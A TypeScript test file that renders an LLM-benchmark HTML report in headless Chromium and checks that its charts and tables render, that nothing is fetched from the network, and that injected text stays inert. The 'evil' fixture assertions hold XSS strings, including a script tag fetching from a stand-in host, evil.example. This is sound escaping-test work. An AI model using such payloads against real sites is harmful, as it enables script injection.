/**
 * Opens report.html in headless Chromium (Debian's, through playwright-core): its charts and tables render,
 * nothing is fetched from the network, nothing logs an error, and model text cannot run script.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { pathToFileURL } from 'node:url';
import { writeReport } from '../../src/reports/write.js';
import { loadFixture } from './load.js';

const CHROMIUM = '/usr/bin/chromium';
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'];

test('report.html renders its charts and tables in headless Chromium with no errors and no network', { skip: existsSync(CHROMIUM) ? false : `${CHROMIUM} is absent (apt-get install chromium)`, timeout: 120_000 }, async () => {
  const { chromium } = await import('playwright-core');
  const dir = mkdtempSync(join(tmpdir(), 'llmbench-html-'));
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS, timeout: 60_000 });
  try {
    const files = await writeReport(join(dir, 'ab'), [loadFixture('a'), loadFixture('b')]);
    const evilFiles = await writeReport(join(dir, 'evil'), [loadFixture('evil')]);
    assert.deepEqual(readdirSync(join(dir, 'ab', 'charts')).sort(), [
      'latency-cdf.png', 'latency-cdf.svg', 'load-curves.png', 'load-curves.svg', 'memory.png', 'memory.svg', 'overview.png', 'overview.svg',
      'timeline-1.png', 'timeline-1.svg', 'timeline-2.png', 'timeline-2.svg', 'tokens-over-time-1.png', 'tokens-over-time-1.svg', 'tokens-over-time-2.png', 'tokens-over-time-2.svg',
    ]);
    assert.equal(files[files.length - 1], join(dir, 'ab', 'report.html'));

    for (const [html, expectCharts] of [[files.at(-1)!, 8], [evilFiles.at(-1)!, 5]] as const) {
      const page = await browser.newPage();
      const problems: string[] = [];
      const requests: string[] = [];
      page.on('console', (m) => { if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()}`); });
      page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
      page.on('dialog', (d) => { problems.push(`dialog: ${d.message()}`); void d.dismiss(); });
      page.on('request', (r) => requests.push(r.url()));
      const url = pathToFileURL(html).href;
      await page.goto(url, { waitUntil: 'load', timeout: 30_000 });
      const info = await page.evaluate(() => ({
        charts: [...document.querySelectorAll('figure.chart svg')].map((s) => {
          const b = s.getBoundingClientRect();
          return { w: Math.round(b.width), h: Math.round(b.height), texts: s.querySelectorAll('text').length };
        }),
        tables: document.querySelectorAll('table').length,
        firstCell: document.querySelector('table.summary tbody td')?.textContent ?? null,
        scripts: document.querySelectorAll('script').length,
        imgs: document.querySelectorAll('img, iframe, object, embed').length,
        title: document.title,
        text: document.body.innerText,
      }));
      assert.deepEqual(problems, []);
      assert.deepEqual(requests, [url], 'the page fetched something besides itself');
      assert.equal(info.charts.length, expectCharts);
      for (const c of info.charts) assert.ok(c.w > 100 && c.h > 100 && c.texts > 3, JSON.stringify(c));
      assert.equal(info.firstCell, 'in8_out4_c1');
      assert.equal(info.scripts, 0);
      assert.equal(info.imgs, 0);
      if (html.includes('evil')) {
        assert.equal(info.title, 'llmbench report: <script>alert("name")</script>');
        assert.ok(info.text.includes('</textarea><script>fetch("http://evil.example/x")</script> "quotes" & \'apos\' <!-- -->'));
        assert.ok(info.text.includes('no memory telemetry in this run'));
        assert.equal(info.tables, 4); // meta, summary, two scenarios
      } else {
        assert.equal(info.tables, 8); // per run: meta, summary, two scenarios
      }
      await page.close();
    }
  } finally {
    await browser.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
